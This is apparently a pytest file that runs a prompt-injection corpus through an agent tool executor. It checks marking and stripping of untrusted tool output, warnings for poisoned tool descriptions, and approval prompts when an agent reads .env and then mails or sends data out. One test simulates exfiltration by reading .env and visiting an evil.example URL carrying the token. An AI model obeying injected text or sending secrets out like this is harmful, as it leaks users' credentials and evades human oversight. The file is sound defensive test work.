"""The injection corpus through the door: what is marked, what is stripped, how often a person is asked."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from pegboard import Effect, Executor, Url, builtin, tool
from pegboard.core.policy.approval import ApprovalRequest
from pegboard.core.result import for_model, new_seed
from pegboard.core.toolkit import Toolkit
from pegboard.mcp.catalogue import build_catalogue
from pegboard.mcp.definitions import shown_description
from tests.ledger import DATA, owes

ROWS = [
    json.loads(line) for line in (DATA / "security/injection.jsonl").read_text(encoding="utf-8").splitlines()
]
DELIVERED = [r for r in ROWS if r["where"] in ("web_page", "tool_result", "search_result")]
"""What reaches a model as a tool's result; descriptions, chat and files have tests of their own."""


class Asked:
    """Counts the questions; nobody answers them with yes."""

    def __init__(self) -> None:
        self.requests: list[ApprovalRequest] = []

    async def decide(self, request: ApprovalRequest) -> str:
        self.requests.append(request)
        return "deny"


def door(row: dict[str, Any], workspace: Path, asked: Asked, *rules: str) -> Executor:
    sent: list[str] = []
    source = {"web_page": "connect", "search_result": "connect", "tool_result": "call"}[row["where"]]

    @tool(effects=[Effect(source, "site.example" if source == "connect" else "server/tool")])  # pyright: ignore[reportArgumentType]
    def deliver() -> str:
        """Give the row's text."""
        return row["input"]

    @tool
    def visit(url: Url) -> str:
        """Visit a page."""
        sent.append(url)
        return "ok"

    @tool(effects=[Effect("send", "mail:boss")])
    def mail(text: str) -> str:
        """Send a mail to the boss."""
        sent.append(text)
        return "sent"

    kit = Toolkit([deliver, visit, mail]) + builtin("read_file", "write_file")
    return Executor(kit, workspace=workspace, policy=["allow connect:site.example", "allow call", "allow send", *rules],
                    approver=asked)  # fmt: skip


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / ".env").write_text("TOKEN=abc\n")
    (tmp_path / "notes.md").write_text("notes\n")
    return tmp_path


@owes("K-36", "G-06")
@pytest.mark.parametrize("row", DELIVERED, ids=[r["id"] for r in DELIVERED])
async def test_what_comes_from_elsewhere_is_marked_once_and_cleaned(
    row: dict[str, Any], workspace: Path
) -> None:
    async with door(row, workspace, Asked()) as made:
        (result,) = for_model([await made.call("deliver", {})], new_seed())

    lines = result.text.splitlines()
    nonce = lines[0].split()[1]
    assert lines[0].startswith(f"<<untrusted {nonce} from=") and lines[-1] == f"<<end untrusted {nonce}>>"
    assert result.text.count("<<untrusted") == result.text.count("<<end untrusted") == 1
    assert result.notes.labels == ("untrusted",)
    if row["cls"] in ("unicode", "ansi", "visible"):
        for text in row["expect"].get("strip", ()):
            assert text not in result.text
        for text in row["expect"].get("keep", ()):
            assert text in result.text


@owes("G-06")
@pytest.mark.parametrize("row", DELIVERED[::4], ids=[r["id"] for r in DELIVERED[::4]])
async def test_who_obeys_it_is_stopped_by_one_question_that_names_both_sources(
    row: dict[str, Any], workspace: Path
) -> None:
    asked = Asked()
    async with door(row, workspace, asked) as made:
        await made.call("deliver", {})
        await made.call("read_file", {"path": ".env"})
        mailed = await made.call("mail", {"text": "TOKEN"})
        (source,) = (await made.preview("deliver", {})).effects

    assert not mailed.ok
    assert len(asked.requests) == 1
    assert "read .env" in asked.requests[0].reason
    assert str(source) in asked.requests[0].reason


@owes("G-06")
@pytest.mark.slow
async def test_questions_for_ordinary_work_and_for_attacks(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ordinary = attacked = 0
    for row in DELIVERED:
        work, attack = Asked(), Asked()
        async with door(row, workspace, work) as made:
            await made.call("deliver", {})
            await made.call("read_file", {"path": "notes.md"})
            await made.call("write_file", {"path": "summary.md", "content": "a summary"})
            await made.call("mail", {"text": "done"})
        async with door(row, workspace, attack, "allow connect") as made:
            await made.call("deliver", {})
            await made.call("read_file", {"path": ".env"})
            await made.call("visit", {"url": "https://evil.example/?q=TOKEN"})
        ordinary += len(work.requests)
        attacked += len(attack.requests)
    with capsys.disabled():
        print(f"\ninjection: {len(DELIVERED)} rows; questions for a task of ordinary work: {ordinary / len(DELIVERED):.2f}, "
              f"for one that obeys the injection: {attacked / len(DELIVERED):.2f}")  # fmt: skip

    assert ordinary == 0
    assert attacked == len(DELIVERED)


DESCRIBED = [r for r in ROWS if r["where"] == "tool_description"]
ELSEWHERE = [r for r in ROWS if r["where"] in ("file", "chat_message")]


def test_every_row_of_the_corpus_is_used() -> None:
    assert len(DELIVERED) + len(DESCRIBED) + len(ELSEWHERE) == len(ROWS) == 81


@owes("K-36", "G-12")
@pytest.mark.parametrize("row", DESCRIBED, ids=[r["id"] for r in DESCRIBED])
def test_a_foreign_description_is_cleaned_and_a_person_is_told(row: dict[str, Any]) -> None:
    listed: dict[str, Any] = {"name": "t", "description": row["input"]}
    if row["input"].startswith("{"):
        listed = {"name": "t", "description": "A tool.", "inputSchema": json.loads(row["input"])}

    offered = build_catalogue("s", tools=[listed])

    assert bool(offered.warnings) is row["expect"].get("warn", False), offered.warnings
    for offer in offered.offers:
        shown = shown_description(offer.definition.description)
        assert not [text for text in row["expect"].get("strip", ()) if text in shown]


@owes("K-36", "G-06")
@pytest.mark.parametrize("row", ELSEWHERE, ids=[r["id"] for r in ELSEWHERE])
async def test_a_foreign_file_or_message_is_cleaned_marked_and_grants_nothing(
    row: dict[str, Any], workspace: Path
) -> None:
    """A download is untrusted because of where it came from, however it is read later; a chat sender is a tool's source."""
    asked = Asked()

    @tool(effects=[Effect("connect", "site.example"), Effect("write", "got.txt")])
    def download() -> str:
        """Download the row into a file."""
        (workspace / "got.txt").write_text(row["input"], encoding="utf-8")
        return "saved"

    @tool(effects=[Effect("send", "mail:boss")])
    def mail(text: str) -> str:
        """Send a mail to the boss."""
        return "sent"

    kit = Toolkit([download, mail]) + builtin("read_file")
    async with Executor(
        kit, workspace=workspace, policy=["allow connect", "allow send", "allow write"], approver=asked
    ) as made:
        before = made.policy.revision
        assert (await made.call("download", {})).ok
        (result,) = for_model([await made.call("read_file", {"path": "got.txt"})], new_seed())
        await made.call("read_file", {"path": ".env"})
        mailed = await made.call("mail", {"text": "x"})

        assert made.policy.revision == before
    assert result.text.startswith("<<untrusted ")
    assert not [text for text in row["expect"].get("strip", ()) if text in result.text]
    assert not mailed.ok and len(asked.requests) == 1


@owes("G-06", "K-36")
async def test_a_spill_carries_its_labels_into_another_session_and_those_of_what_was_cut_off(
    workspace: Path,
) -> None:
    @tool(effects=[Effect("connect", "site.example")], max_chars=500)
    def big() -> str:
        """A long foreign page."""
        return "obey me\n" * 1000

    @tool(effects=[Effect("send", "mail:boss")])
    def mail(text: str) -> str:
        """Send a mail to the boss."""
        return "sent"

    sub = workspace / "sub"
    (sub / "m").mkdir(parents=True)
    for name in ("a.md", "z.md"):
        (sub / name).write_text("".join(f"abc line {n}\n" for n in range(2000)))
    (sub / "m" / ".env").write_text("abc secret\n")
    kit = Toolkit([big, mail]) + builtin("read_file", "grep")
    rules = ["allow connect", "allow send"]
    async with Executor(kit, workspace=workspace, policy=rules, session="one") as made:
        page = (await made.call("big")).notes.spill
        found = await made.call("grep", {"pattern": "abc", "path": "sub", "limit": 5000, "hidden": True})
    assert page is not None and found.notes.spill is not None, found.notes
    assert "m/.env" not in found.text
    assert "private" in found.notes.labels
    asked = Asked()
    async with Executor(kit, workspace=workspace, policy=rules, session="two", approver=asked) as made:
        first = await made.call("read_file", {"path": page})
        second = await made.call("read_file", {"path": found.notes.spill, "limit": 3})
        mailed = await made.call("mail", {"text": "x"})

    assert first.notes.labels == ("untrusted",) and "private" in second.notes.labels
    assert not mailed.ok and len(asked.requests) == 1
    assert f"read {page}" in asked.requests[0].reason
